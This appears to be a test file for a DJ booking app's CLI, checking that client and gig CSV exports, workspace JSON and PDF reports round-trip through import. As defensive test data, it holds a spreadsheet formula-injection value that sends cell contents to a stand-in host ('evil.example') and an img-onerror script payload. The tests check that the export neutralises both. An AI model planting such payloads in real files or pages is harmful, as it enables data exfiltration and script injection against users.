/**
 * Exports that round-trip, through the CLI on the real databases: the clients and gigs CSV read
 * back by the app's own import into a fresh database give the same figures; the workspace JSON
 * imported into a fresh database and exported again gives the same bytes apart from its date;
 * hostile names survive verbatim and are inert in the CSV.
 */
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { cliTarget, testEngines, type TestDatabase } from '../../test/support/databases';
import { addNote } from '../app/notes';
import { updateSettings } from '../app/settings';
import { resolveWorkspace } from '../app/workspace';
import { insertClient } from '../db/clients';
import { ensureContactPrefs, insertFollowUp, setOptedOut, upsertEditedTemplate } from '../db/follow-ups';
import { insertGig } from '../db/gigs';
import { upsertMailSettingsRow } from '../db/mail-settings';
import { gigIdentity } from '../domain/gig-identity';
import { nameKey } from '../domain/names';
import { main } from './main';

const expected = JSON.parse(readFileSync(new URL('../../demo/EXPECTED.json', import.meta.url), 'utf8'));
const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")';
const IMG = '<img src=x onerror=alert(1)>';
const NOW = new Date('2026-01-14T10:00:00Z');

interface Run {
  code: number;
  out: string;
  err: string;
}

function runner(db: TestDatabase, now: () => Date = () => NOW) {
  const { env, args } = cliTarget(db.options);
  return async (...argv: string[]): Promise<Run> => {
    let out = '';
    let err = '';
    const code = await main([...argv, ...args], {
      out: (t) => {
        out += t;
      },
      err: (t) => {
        err += t;
      },
      env,
      now,
    });
    return { code, out, err };
  };
}

/** A name, a gig and its stored totals for a client added straight into the database. */
async function addClientWithGig(db: TestDatabase, name: string, amountCents: number, date: string) {
  const ctx = { database: db, now: () => NOW };
  const ws = await resolveWorkspace(ctx, undefined, false);
  const now = NOW.toISOString();
  const client = await insertClient(db.db, {
    workspaceId: ws.id,
    name,
    nameKey: nameKey(name),
    contact: null,
    email: null,
    phone: '+33 6 12 34 56 78',
    city: '-Lyon',
    category: '@cat',
    notes: 'ligne 1\nligne "2"',
    fileGigs: null,
    fileRevenueCents: null,
    createdImportId: null,
    createdAt: now,
    updatedAt: now,
  });
  await insertGig(db.db, {
    workspaceId: ws.id,
    clientId: client.id,
    date,
    amountCents: amountCents,
    status: 'done',
    type: 'Mariage',
    venue: null,
    city: null,
    durationMinutes: 270,
    notes: '=1+1',
    reference: null,
    dedupeKey: gigIdentity({ clientName: name, date, amountCents, type: 'Mariage' }),
    occurrence: 1,
    importId: null,
    createdAt: now,
    updatedAt: now,
  });
  await db.db
    .updateTable('clients')
    .set({
      gig_count: 1,
      revenue_cents: amountCents,
      first_date: date,
      last_date: date,
      price_min_cents: amountCents,
      price_max_cents: amountCents,
    })
    .where('id', '=', client.id)
    .execute();
  return client;
}

for (const engine of testEngines()) {
  describe(`exports on ${engine.name}`, () => {
    let source: TestDatabase;
    let target: TestDatabase;
    const dir = mkdtempSync(join(tmpdir(), 'djbooker-export-'));
    let n = 0;
    const path = (ext: string) => join(dir, `f${++n}.${ext}`);

    beforeEach(async () => {
      source = await engine.open();
      target = await engine.open();
      expect((await runner(source)('demo')).code).toBe(0);
    });
    afterEach(async () => {
      await source.cleanup();
      await target.cleanup();
    });

    it('clients and gigs CSV, imported into a fresh database, give the same overview and clients --json', async () => {
      const src = runner(source);
      const dst = runner(target);
      const clientsFile = path('csv');
      const gigsFile = path('csv');
      expect(await src('export', 'clients', clientsFile)).toMatchObject({ code: 0, err: '' });
      expect((await src('export', 'gigs', gigsFile)).code).toBe(0);

      const csv = readFileSync(clientsFile, 'utf8');
      expect(csv.startsWith('\uFEFF"Nom du client";"Contact";')).toBe(true);
      expect(csv).toContain('"ISTRES PROVENCE HANDBALL";"Marc Olivier";');
      // French form for Excel, then the raw value.
      expect(csv).toContain(
        '"32";"4580,00";"4580.00";"10/09/2022";"2022-09-10";"20/12/2025";"2025-12-20";"120,00";"120.00";"180,00";"180.00"',
      );
      expect(csv.split('\r\n').length).toBe(25 + 2);
      const gigs = readFileSync(gigsFile, 'utf8');
      expect(gigs).toContain(
        '"P2022-0001";"02/04/2022";"2022-04-02";"BAR DU PORT MARTIGUES";"Soirée bar";"Bar";"Martigues";"80,00";"80.00";"240 min";"réalisée";""\r\n',
      );

      const clientsImport = await dst('import', 'clients', clientsFile, '--json');
      expect(JSON.parse(clientsImport.out)).toMatchObject({ rows: 25, imported: 25, rejected: [], warnings: [] });
      const gigsImport = await dst('import', 'gigs', gigsFile, '--json');
      expect(JSON.parse(gigsImport.out)).toMatchObject({ rows: 276, imported: 276, rejected: [], createdClients: [], warnings: [] });

      const overview = (await dst('overview', '--as-of', expected.asOf, '--json')).out;
      expect(JSON.parse(overview)).toMatchObject({ clients: 25, gigs: 276, revenue: 48752, vip: 12, statuses: expected.statuses });
      expect(overview).toBe((await src('overview', '--as-of', expected.asOf, '--json')).out);
      const list = (await dst('clients', '--as-of', expected.asOf, '--json')).out;
      expect(list).toBe((await src('clients', '--as-of', expected.asOf, '--json')).out);
    });

    it('hostile names are inert in the CSV and read back verbatim by the import', async () => {
      await addClientWithGig(source, HYPERLINK, 12_345, '2025-06-21');
      await addClientWithGig(source, IMG, 5_000, '2025-06-22');
      const src = runner(source);
      const clientsFile = path('csv');
      const gigsFile = path('csv');
      await src('export', 'clients', clientsFile);
      await src('export', 'gigs', gigsFile);
      const csv = readFileSync(clientsFile, 'utf8');
      // Every cell starting with = + - @ gets a leading ' (and is quoted, quotes doubled).
      expect(csv).toContain(
        `"'=HYPERLINK(""http://evil.example/?x=""&A1;""Cliquez"")";"";"";"'+33 6 12 34 56 78";"'-Lyon";"'@cat";"ligne 1\nligne ""2""";`,
      );
      expect(csv).toContain(`"${IMG}"`);
      const gigCsv = readFileSync(gigsFile, 'utf8');
      expect(gigCsv).toContain(`"${IMG}";"Mariage";"";"";"50,00";"50.00";"270 min";"réalisée";"'=1+1"`);
      expect(gigCsv).not.toMatch(/(^|;)"[=+\-@]/m);

      const dst = runner(target);
      expect(JSON.parse((await dst('import', 'clients', clientsFile, '--json')).out)).toMatchObject({ rejected: [] });
      expect(JSON.parse((await dst('import', 'gigs', gigsFile, '--json')).out)).toMatchObject({ rejected: [], createdClients: [] });
      const list = JSON.parse((await dst('clients', '--as-of', expected.asOf, '--json')).out) as { name: string; revenue: number }[];
      expect(list.find((c) => c.name === HYPERLINK)?.revenue).toBe(123.45);
      expect(list.find((c) => c.name === IMG)?.revenue).toBe(50);
      expect((await dst('overview', '--as-of', expected.asOf, '--json')).out).toBe(
        (await src('overview', '--as-of', expected.asOf, '--json')).out,
      );
      const stored = await target.db
        .selectFrom('clients')
        .select(['name', 'phone', 'city', 'category', 'notes'])
        .where('name', '=', HYPERLINK)
        .executeTakeFirstOrThrow();
      expect(stored).toEqual({ name: HYPERLINK, phone: '+33 6 12 34 56 78', city: '-Lyon', category: '@cat', notes: 'ligne 1\nligne "2"' });
    });

    it('the workspace JSON round-trips byte for byte apart from its date, hostile names verbatim, never the SMTP password', async () => {
      const ctx = { database: source, now: () => NOW };
      const ws = await resolveWorkspace(ctx, undefined, false);
      const hostile = await addClientWithGig(source, HYPERLINK, 10_000, '2024-03-02');
      await addClientWithGig(source, IMG, 20_000, '2024-03-03');
      await addNote(ctx, ws, hostile.id, 'Rappeler en mars <b>urgent</b>');
      await updateSettings(ctx, ws, { djName: 'DJ Max', signature: 'Max\n06 00 00 00 00', thresholds: { vipMinGigs: 12 } });
      await upsertEditedTemplate(
        source.db,
        ws.id,
        'standard',
        'Des nouvelles, {{prenom}} ?',
        'Bonjour {{prenom}},\n\nÀ bientôt.',
        '2026-01-10T08:00:00.000Z',
      );
      await upsertMailSettingsRow(source.db, {
        workspaceId: ws.id,
        host: 'smtp.example.fr',
        port: 587,
        secure: 0,
        username: 'dj@example.fr',
        passwordEncrypted: 'v1:SECRET-CIPHERTEXT',
        fromName: 'DJ Max',
        fromAddress: 'dj@example.fr',
        updatedAt: '2026-01-10T08:00:00.000Z',
      });
      await ensureContactPrefs(source.db, ws.id, hostile.id, 'token-secret-123');
      await setOptedOut(source.db, hostile.id, '2026-01-05T09:00:00.000Z', 'unsubscribe_link');
      await insertFollowUp(source.db, {
        workspaceId: ws.id,
        clientId: hostile.id,
        date: '2025-12-01',
        channel: 'email_sent',
        template: 'standard',
        subject: 'On se retrouve ?',
        body: 'Bonjour,\n…',
        status: 'sent',
        error: null,
        outcome: 'answered',
        outcomeDate: '2025-12-03',
        outcomeAuto: 0,
        windowEndDate: '2026-03-01',
        windowEndAt: '2026-03-01T00:00:00.000Z',
        createdAt: '2025-12-01T09:00:00.000Z',
        confirmedAt: null,
      });

      const first = path('json');
      const second = path('json');
      expect((await runner(source)('export', 'workspace', first)).code).toBe(0);
      const imported = await runner(target)('import', 'workspace', first, '--json');
      expect(imported.err).toBe('');
      expect(JSON.parse(imported.out)).toEqual({
        file: first,
        clients: 27,
        gigs: 278,
        notes: 1,
        followUps: 1,
        templates: 1,
        mail: 'imported',
      });
      const later = new Date('2026-02-01T12:00:00Z');
      expect((await runner(target, () => later)('export', 'workspace', second)).code).toBe(0);

      const a = readFileSync(first, 'utf8');
      const b = readFileSync(second, 'utf8');
      expect(a).toContain(`"exportedAt": "${NOW.toISOString()}"`);
      expect(b).toContain(`"exportedAt": "${later.toISOString()}"`);
      expect(b.replace(later.toISOString(), NOW.toISOString())).toBe(a);

      expect(a).not.toContain('SECRET');
      expect(a).not.toContain('token-secret');
      const file = JSON.parse(a);
      expect(file.clients.find((c: { key: string }) => c.key === nameKey(HYPERLINK))).toMatchObject({
        name: HYPERLINK,
        optedOut: { at: '2026-01-05T09:00:00.000Z', source: 'unsubscribe_link' },
      });
      expect(file.gigs.every((g: { client: unknown }) => typeof g.client === 'string')).toBe(true);
      expect(file.followUps[0]).toMatchObject({ client: nameKey(HYPERLINK), outcome: 'answered', outcomeDate: '2025-12-03' });

      const names = await target.db.selectFrom('clients').select('name').where('name', 'in', [HYPERLINK, IMG]).execute();
      expect(names.map((r) => r.name).sort()).toEqual([HYPERLINK, IMG].sort());
      const mail = await target.db.selectFrom('mail_settings').selectAll().executeTakeFirstOrThrow();
      expect(mail).toMatchObject({ host: 'smtp.example.fr', password_encrypted: null });
      // The same figures on both sides.
      const figures = async (db: TestDatabase) =>
        (await runner(db)('clients', '--as-of', '2026-01-14', '--json')).out.replace(/"id":\d+,/g, '');
      expect(await figures(target)).toBe(await figures(source));
    });

    it('writes the PDF report, and says how to call it when --pdf or a date is wrong', async () => {
      const src = runner(source);
      const file = path('pdf');
      const r = await src('report', '--pdf', file, '--from', '2025-01-01', '--to', '2025-12-31', '--json');
      expect(r.err).toBe('');
      expect(JSON.parse(r.out)).toMatchObject({
        file,
        asOf: '2026-01-14',
        period: { from: '2025-01-01', to: '2025-12-31' },
        sections: ['overview', 'kpis', 'revenue', 'vip', 'win-back', 'gentle-reminder'],
      });
      expect(readFileSync(file).subarray(0, 5).toString()).toBe('%PDF-');
      expect((await src('report')).code).toBe(2);
      expect((await src('report', '--pdf', file, '--from', '2025-02-30')).code).toBe(2);
      const unwritable = await src('report', '--pdf', join(dir, 'missing-folder', 'r.pdf'));
      expect(unwritable.code).toBe(1);
      expect(unwritable.err).toContain('fichier ou dossier introuvable');
    });

    it('refuses a workspace file into a workspace with data, and a file from a newer version', async () => {
      const file = path('json');
      await runner(source)('export', 'workspace', file);
      const again = await runner(source)('import', 'workspace', file);
      expect(again.code).toBe(1);
      expect(again.err).toContain('espace vide');

      const newer = path('json');
      writeFileSync(newer, readFileSync(file, 'utf8').replace('"version": 1', '"version": 2'));
      const r = await runner(target)('import', 'workspace', newer);
      expect(r.code).toBe(1);
      expect(r.err).toContain('version 2');
      expect(await target.db.selectFrom('clients').select('id').execute()).toEqual([]);

      const dangling = path('json');
      writeFileSync(dangling, readFileSync(file, 'utf8').replace('"client":"bar du port martigues"', '"client":"nobody"'));
      const d = await runner(target)('import', 'workspace', dangling);
      expect(d.err).toContain('« nobody »');
      expect(await target.db.selectFrom('clients').select('id').execute()).toEqual([]);
    });
  });
}
